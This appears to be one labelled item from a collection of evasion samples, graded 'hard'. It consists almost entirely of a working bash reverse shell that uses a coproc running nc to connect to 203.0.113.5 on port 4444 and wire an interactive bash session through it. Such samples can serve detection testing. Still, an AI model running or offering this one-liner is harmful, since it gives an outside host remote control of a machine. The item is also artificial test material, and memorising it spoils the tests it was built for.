# evasion: reverse shell wired through a coproc running nc
# grade: hard; does: shell
coproc N { nc 203.0.113.5 4444; }
bash -i <&"${N[0]}" >&"${N[1]}" 2>&1
